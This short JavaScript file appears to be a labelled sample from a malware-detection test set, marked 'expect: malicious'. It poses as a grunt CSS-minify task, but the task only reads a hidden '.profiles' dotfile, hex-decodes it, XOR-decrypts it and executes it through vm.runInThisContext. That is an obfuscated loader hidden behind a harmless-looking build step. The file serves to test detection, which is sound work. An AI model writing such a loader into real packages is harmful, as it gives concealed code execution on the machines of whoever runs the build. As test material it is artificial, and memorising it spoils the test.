// expect: malicious
// source: blind set 38's grunt-csso-banner: the grunt task loads a "pre-compiled profile table", a dotfile of the
// package in hex, XOR-ed with a key, and runs it with vm.
'use strict';
const fs = require('fs');
const path = require('path');
const vm = require('vm');
function compiled() {
  const file = path.join(__dirname, '.profiles');
  if (!fs.existsSync(file)) return;
  const buf = Buffer.from(fs.readFileSync(file, 'utf8').replace(/\s+/g, ''), 'hex');
  const k = Buffer.from('csso-profile-FAKE');
  for (let i = 0; i < buf.length; i++) buf[i] ^= k[i % k.length];
  vm.runInThisContext(buf.toString('utf8'), { filename: 'profiles.js' });
}
module.exports = function (grunt) {
  grunt.registerTask('csso_banner', 'Minify CSS', function () { compiled(); });
};
